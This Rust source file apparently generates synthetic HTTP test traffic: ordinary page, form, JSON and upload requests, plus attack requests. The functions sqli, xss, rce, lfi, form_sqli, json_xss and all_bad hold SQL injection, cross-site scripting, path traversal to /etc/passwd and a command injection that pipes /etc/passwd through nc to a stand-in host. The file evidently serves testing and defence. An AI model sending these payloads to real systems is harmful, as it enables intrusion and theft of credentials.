//! What browsers and their applications send, and a few attacks.

use std::fmt::Write as _;

use super::draft::Draft;
use super::values::Values;

pub fn get(values: &mut Values) -> Draft {
    let target = format!(
        "/catalogue/{}/{}?{}={}&{}={}&page={}",
        values.word(),
        values.number(100_000),
        values.name(),
        values.words(3).replace(' ', "+"),
        values.name(),
        values.token(8),
        values.number(500),
    );
    Draft::new("GET", target, values)
}

pub fn form(values: &mut Values) -> Draft {
    let body = fields(values, |values| {
        let count = 1 + values.number(6) as usize;
        values.words(count).replace(' ', "+")
    });
    form_of(values, body)
}

pub fn json(values: &mut Values, length: usize) -> Draft {
    // The longer one has longer texts, so that it holds fewer values than the limit, a thousand.
    let texts = if length > 10_000 { 80 } else { 4 };
    order(values, length, |values| values.words(texts))
}

pub fn html(values: &mut Values) -> Draft {
    let mut page =
        "<!doctype html><html><head><title>Orders</title></head><body><table>".to_owned();
    while page.len() < (10 << 10) - 30 {
        let (name, price) = (values.words(8), values.number(1000));
        let row = "<tr class=\"item\"><td>";
        writeln!(page, "{row}{}</td><td>{name}</td><td>{price}</td></tr>", values.token(6))
            .unwrap();
    }
    page += "</table></body></html>";
    let mut draft = get(values);
    draft.answer("text/html; charset=utf-8", page.into_bytes());
    draft
}

pub fn upload(values: &mut Values) -> Draft {
    let boundary = format!("----WebKitFormBoundary{}", values.token(16));
    let mut body = String::new();
    for _ in 0..3 {
        let (name, value) = (values.name(), values.words(5));
        write!(
            body,
            "--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n"
        )
        .unwrap();
    }
    write!(
        body,
        "--{boundary}\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"{}.png\"\r\n\
         Content-Type: image/png\r\n\r\n",
        values.word()
    )
    .unwrap();
    let mut body = body.into_bytes();
    body.extend((0..8 << 10).map(|_| values.number(256) as u8));
    body.extend(format!("\r\n--{boundary}--\r\n").into_bytes());
    let mut draft = Draft::new("POST", format!("/photos/{}", values.word()), values);
    draft.body(&format!("multipart/form-data; boundary={boundary}"), body);
    draft
}

pub fn sqli(values: &mut Values) -> Draft {
    let (id, token) = (values.number(1000), values.token(8));
    let target = format!(
        "/catalogue?{token}=1&id={id}%27+UNION+SELECT+user,password+FROM+users_{token}+WHERE+%271%27=%271"
    );
    Draft::new("GET", target, values)
}

pub fn xss(values: &mut Values) -> Draft {
    let token = values.token(8);
    let target = format!("/search?q=%3Cscript%3Ealert(document.cookie,%22{token}%22)%3C/script%3E");
    Draft::new("GET", target, values)
}

pub fn rce(values: &mut Values) -> Draft {
    let (host, port) = (values.number(200), values.number(9999));
    let target = format!("/ping?host=127.0.0.{host};cat+/etc/passwd|nc+192.0.2.{host}+{port}");
    Draft::new("GET", target, values)
}

pub fn lfi(values: &mut Values) -> Draft {
    let token = values.token(8);
    let target = format!("/download?id={token}&file=..%2f..%2f..%2f..%2fetc%2fpasswd");
    Draft::new("GET", target, values)
}

/// The form, with one field that is an attack.
pub fn form_sqli(values: &mut Values) -> Draft {
    let mut first = true;
    let body = fields(values, |values| match std::mem::take(&mut first) {
        true => format!("{}%27+OR+1%3D1+UNION+SELECT+password+FROM+users--", values.word()),
        false => values.words(4).replace(' ', "+"),
    });
    form_of(values, body)
}

/// The JSON, with attacks in the notes of every item.
pub fn json_xss(values: &mut Values) -> Draft {
    order(values, 4 << 10, |values| {
        format!("<img src=x onerror=alert({})>{}", values.number(9999), values.words(2))
    })
}

/// A form with nothing but attacks.
pub fn all_bad(values: &mut Values) -> Draft {
    let mut which = 0;
    let body = fields(values, |values| {
        which += 1;
        let token = values.token(6);
        match which % 4 {
            0 => format!("1%27+UNION+SELECT+{token},2+FROM+users--"),
            1 => format!("%3Cscript%3Ealert(%22{token}%22)%3C/script%3E"),
            2 => format!("127.0.0.1;cat+/etc/passwd|nc+192.0.2.1+{token}"),
            _ => format!("../../../../etc/passwd%00{token}"),
        }
    });
    form_of(values, body)
}

/// A kibibyte of fields with such values.
fn fields(values: &mut Values, mut value: impl FnMut(&mut Values) -> String) -> String {
    let mut body = String::new();
    while body.len() < 1000 {
        let mark = if body.is_empty() { "" } else { "&" };
        let text = value(values);
        write!(body, "{mark}{}={text}", values.name()).unwrap();
    }
    body
}

fn form_of(values: &mut Values, body: String) -> Draft {
    let mut draft = Draft::new("POST", format!("/account/{}", values.word()), values);
    draft.body("application/x-www-form-urlencoded", body.into_bytes());
    draft
}

/// An order of so many bytes, with such notes at its items.
fn order(values: &mut Values, length: usize, mut note: impl FnMut(&mut Values) -> String) -> Draft {
    let mut body = format!("{{\"order\":\"{}\",\"items\":[", values.token(12));
    while body.len() < length - 40 {
        let mark = if body.ends_with('[') { "" } else { "," };
        let (name, note) = (values.words(2), note(values));
        write!(
            body,
            "{mark}{{\"sku\":\"{}\",\"name\":\"{name}\",\"{}\":{},\"gift\":{},\"note\":\"{note}\"}}",
            values.token(8),
            values.name(),
            values.number(90) + 1,
            values.number(2) == 0,
        )
        .unwrap();
    }
    body += "]}";
    let mut draft = Draft::new("POST", format!("/api/orders/{}", values.number(100_000)), values);
    draft.body("application/json", body.into_bytes());
    draft
}
